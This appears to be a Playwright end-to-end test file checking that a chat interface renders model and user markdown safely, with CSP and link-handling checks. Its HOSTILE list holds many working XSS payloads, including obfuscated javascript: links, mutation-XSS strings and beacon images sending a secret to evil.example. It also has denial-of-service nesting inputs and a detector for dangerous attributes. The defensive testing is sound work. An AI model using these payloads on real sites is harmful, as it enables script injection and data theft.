"""The model's words are data: nothing of them runs, and nobody is told about them."""

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, expect

from tests.e2e.page.conftest import ALONE, Tab
from tests.services import Service

pytestmark = pytest.mark.browser

HOSTILE = [
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "<svg onload=window.pwned=1><circle/></svg>",
    "<svg><script>window.pwned=1</script></svg>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<iframe src=//evil.example></iframe>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<form action=//evil.example><button>Win</button></form>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example>",
    "<style>body{display:none} @import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<a href=javascript:window.pwned=1>click</a>",
    "<details open ontoggle=window.pwned=1>x</details>",
    "<video><source onerror=window.pwned=1></video>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=1>",
    "[click](javascript:window.pwned=1)",
    "[click](JaVaScRiPt:window.pwned=1)",
    "[click](&#106;avascript:window.pwned=1)",
    "[click](java\tscript:window.pwned=1)",
    "[click](data:text/html,<script>window.pwned=1</script>)",
    "[click](vbscript:msgbox)",
    "[click](//evil.example/relative)",
    "[ref]\n\n[ref]: javascript:window.pwned=1",
    "<javascript:window.pwned=1>",
    "![beacon](https://evil.example/pixel.png?secret)",
    "![beacon](//evil.example/pixel.png)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    "![x][b]\n\n[b]: https://evil.example/pixel.png",
    "$\\href{javascript:window.pwned=1}{click}$",
    "$\\includegraphics{https://evil.example/x.png}$",
    "$\\htmlData{x=1}{y}$ $\\url{javascript:window.pwned=1}$",
    "```html\n<script>window.pwned=1</script><img src=x onerror=window.pwned=1>\n```",
    '```"><img src=x onerror=window.pwned=1>\ncode\n```',
    "| <img src=x onerror=window.pwned=1> |\n|---|\n| <script>pwned=1</script> |",
    "- [ ] <input autofocus onfocus=window.pwned=1>",
    "x[^1]\n\n[^1]: <img src=x onerror=window.pwned=1>",
    "x[^1] [^<img/src=x>]\n\n[^1]: [y](javascript:window.pwned=1)\n[^<img/src=x>]: y",
    "> x[^1]\n>\n> [^1]: [click](data:text/html,x) ![x](//evil.example/x.png)",
    "[a]\n\n```\n[a]: https://a.example\n```\n\n[a]: javascript:window.pwned=1",
    "**<img/src=x>**\u3002https://evil.example/\uff0c<img/src=x/onerror=window.pwned=1>",
    "|`<img/src=x>`|\n|--|\n|![x](https://evil.example/pixel.png)|",
]
FORBIDDEN = (
    "script, iframe, object, embed, form, meta, base, style, link, img, video,"
    " source, details, svg:not(.katex svg, .tool svg), input:not([type=checkbox])"
)


@pytest.fixture(scope="module")
def long_tab(browser: Browser, page_server: Service) -> Iterator[Tab]:
    """One tab for the whole corpus: opening one costs more than a turn."""
    context = browser.new_context(**ALONE)
    yield Tab(context.new_page(), page_server.url).open()
    context.close()


@pytest.fixture
def cleared_tab(long_tab: Tab) -> Iterator[Tab]:
    expect(long_tab.get("starter").first).to_be_visible()
    yield long_tab
    long_tab.check()
    long_tab.get("clear").click()


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_is_shown_and_does_nothing(
    cleared_tab: Tab, text: str
) -> None:
    tab = cleared_tab
    tab.ask(text)
    tab.answered()

    prose = tab.get("message-assistant").locator(".md")
    expect(prose).to_be_visible()
    assert prose.locator(FORBIDDEN).count() == 0
    assert prose.locator("*").evaluate_all(DANGEROUS) == []
    assert tab.page.evaluate("window.pwned") is None


DANGEROUS = """elements => elements.flatMap(element => [...element.attributes]
    .filter(a => a.name.startsWith("on")
        || (["href", "src", "xlink:href", "action", "srcdoc"].includes(a.name)
            && !/^(https?:|mailto:)/.test(a.value)))
    .map(a => element.tagName + " " + a.name))"""


@pytest.mark.parametrize(
    "text",
    [
        ">" * 3_900 + " a",
        "$$" + "{" * 1_900 + "x" + "}" * 1_900 + "$$",
        "$$" + "\\frac1{" * 380 + "x" + "}" * 380 + "$$",
        "\n".join("  " * level + "- a" for level in range(60)),
        "*" * 3_900 + "a",
        "[" * 3_900,
    ],
    ids=["quotes", "braces", "fractions", "lists", "stars", "brackets"],
)
def test_text_that_nests_without_end_is_shown_and_breaks_nothing(
    tab: Tab, text: str
) -> None:
    tab.ask(text)
    tab.answered()
    tab.reload()
    tab.answered()
    tab.ask("Still there?")
    tab.answered(2)


def test_half_a_character_is_replaced_and_answered(tab: Tab) -> None:
    # Past React's own property on the box, as a paste from outside comes.
    tab.get("composer").evaluate(
        """box => {
          const of = Object.getOwnPropertyDescriptor;
          const { set } = of(HTMLTextAreaElement.prototype, "value");
          set.call(box, "hello \\ud83d x");
          box.dispatchEvent(new Event("input", { bubbles: true }));
        }"""
    )
    tab.get("composer").press("Enter")
    tab.answered()
    expect(tab.get("message-user")).to_contain_text("hello \ufffd x")


def test_a_hostile_question_is_shown_as_it_was_written(tab: Tab) -> None:
    tab.ask(HOSTILE[1])
    tab.answered()

    expect(tab.get("message-user").locator(".bubble")).to_have_text(HOSTILE[1])


def test_safe_links_open_elsewhere_and_tell_nothing(tab: Tab) -> None:
    tab.ask("[page](https://example.org) <mail@example.org>")
    tab.answered()

    link = tab.get("message-assistant").get_by_role("link", name="page")
    expect(link).to_have_attribute("href", "https://example.org")
    expect(link).to_have_attribute("target", "_blank")
    expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
    mail = tab.get("message-assistant").get_by_role("link", name="mail@example.org")
    expect(mail).to_have_attribute("href", "mailto:mail@example.org")


def test_an_image_becomes_a_link(tab: Tab) -> None:
    tab.ask("![cover](https://evil.example/cover.png)")
    tab.answered()

    link = tab.get("message-assistant").get_by_role("link", name="cover")
    expect(link).to_have_attribute("href", "https://evil.example/cover.png")


def test_the_page_may_not_evaluate_text_as_code(tab: Tab) -> None:
    tab.tolerate("unsafe-eval", "Content Security Policy", "Evaluating a string")
    blocked = tab.page.evaluate(
        """async () => {
            const seen = new Promise(r => document.addEventListener(
                "securitypolicyviolation", event => r(event.effectiveDirective)));
            const script = document.createElement("script");
            script.textContent = "window.pwned = 1";
            document.head.append(script);
            return seen;
        }"""
    )

    assert blocked == "script-src-elem"
    assert tab.page.evaluate("window.pwned") is None


def test_the_policy_of_the_served_page_is_strict(
    tab: Tab, page_server: Service
) -> None:
    headers = tab.page.request.get(page_server.url).headers
    policy = headers["content-security-policy"]

    assert "default-src 'none'" in policy
    assert "unsafe" not in policy
    assert headers["x-content-type-options"] == "nosniff"
